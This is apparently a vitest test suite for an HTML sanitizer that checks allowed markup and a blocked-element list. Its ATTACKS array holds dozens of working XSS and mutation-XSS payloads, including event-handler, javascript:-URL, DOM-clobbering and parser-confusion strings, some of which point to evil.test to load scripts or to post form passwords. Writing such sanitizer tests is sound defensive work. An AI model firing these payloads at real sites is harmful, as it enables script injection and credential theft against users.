import { describe, expect, it } from 'vitest';
import { serverHtml } from '../dom/server-html';

/** Runs in more than one DOM, because a sanitizer is only as good as the parser below it. */
export function serverHtmlSuite(): void {
  describe('what a page may show', () => {
    it('keeps text, structure, classes and addresses', () => {
      const html =
        '<ul class="list"><li><a href="https://radio.test/a" class="x">Uno &amp; <b>dos</b></a> ' +
        '<img src="https://radio.test/a.jpg" alt="" width="60" loading="lazy"></li></ul>';
      expect(shown(html)).toBe(html);
    });

    it('keeps the content of a tag that it does not know', () => {
      expect(shown('<form action="/x"><p>Uno</p><input name="q"><font>dos</font></form>')).toBe(
        '<p>Uno</p>dos',
      );
    });

    it.each(['script', 'style', 'template', 'noscript', 'svg', 'math', 'textarea', 'iframe'])(
      'drops <%s> with its content',
      (tag) => expect(shown(`<p>a</p><${tag}>dropped</${tag}><p>b</p>`)).toBe('<p>a</p><p>b</p>'),
    );

    it('makes every button a plain one', () => {
      expect(shown('<button type="submit" formaction="//evil.test">Ok</button>')).toBe(
        '<button type="button">Ok</button>',
      );
    });

    it('keeps what a feature names and nothing that looks like it', () => {
      const html = '<fav-button post-id="3" data-postid="3" data-other="1"></fav-button><my-tag>x</my-tag>';
      const allowed = { tags: ['fav-button'], attributes: ['post-id', 'data-postid'] };
      expect(shown(html, allowed)).toBe('<fav-button post-id="3" data-postid="3"></fav-button>x');
    });

    it('leaves text that looks like markup as text', () => {
      expect(shown('&lt;img src=x onerror=alert(1)&gt;')).toBe('&lt;img src=x onerror=alert(1)&gt;');
    });

    it('makes nothing of nothing', () => expect(shown('')).toBe(''));
  });

  describe('what an attacker may send', () => {
    it.each(ATTACKS)('is harmless: %s', (html) => {
      const holder = document.createElement('div');
      holder.append(serverHtml(html));
      expectHarmless(holder);
      // A copy by innerHTML must be harmless, too.
      const again = document.createElement('div');
      again.innerHTML = holder.innerHTML;
      expectHarmless(again);
    });

    it('drops the address that is not http(s), not the link', () => {
      expect(shown('<a href="javascript:alert(1)">x</a>')).toBe('<a>x</a>');
      expect(shown('<a href=" java\nscript:alert(1)">x</a>')).toBe('<a>x</a>');
      expect(shown('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="y">')).toBe('<img alt="y">');
    });

    it('survives a document of absurd depth', () => {
      const fragment = serverHtml(`${'<div>'.repeat(2_000)}deep`);
      expect(fragment.textContent).toBe('');
      expect(fragment.firstChild).not.toBeNull();
    });
  });
}

function shown(html: string, allowed?: Parameters<typeof serverHtml>[1]): string {
  const holder = document.createElement('div');
  holder.append(serverHtml(html, allowed));
  return holder.innerHTML;
}

const FORBIDDEN =
  'script,style,svg,math,iframe,object,embed,form,input,textarea,select,base,meta,link,template,noscript,frame,frameset,' +
  'audio,video,source,xmp,marquee,applet,[id],[name],[style],[srcdoc],[formaction],[action],[is],[slot],[part]';

function expectHarmless(root: Element): void {
  expect(root.querySelector(FORBIDDEN)?.outerHTML).toBeUndefined();
  for (const { attributes } of root.querySelectorAll('*')) {
    for (const { name, value } of attributes) {
      expect(name).not.toMatch(/^on|^data-|:/);
      if (name === 'href' || name === 'src') expect(value).toMatch(/^https?:\/\//);
    }
  }
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"></use></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><g title="</style><img src onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><td><img src=x onerror=alert(1)></td></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img srcset="javascript:alert(1) 1x, //evil.test/x 2x">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="//evil.test/"><meta http-equiv="refresh" content="0;url=//evil.test">',
  '<link rel="stylesheet" href="//evil.test/x.css"><style>@import "//evil.test"</style>',
  '<form action="//evil.test"><input name="password"><button formaction="//evil.test">x</button></form>',
  '<img id="onda-config" name="body"><a id="cookie" name="cookie">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p is="evil-element" slot="x" part="y" data-hx-get="//evil.test" x-on:click="alert(1)">x</p>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><html onclick=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "';alert(1)//--></script><img src=x onerror=alert(1)>",
  '<<img src=x onerror=alert(1)>>',
  '<img src=x onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<isindex action="javascript:alert(1)"><keygen autofocus onfocus=alert(1)>',
  '<a href="https://ok.test" ping="//evil.test" target="_top" download autofocus onfocus=alert(1)>x</a>',
];
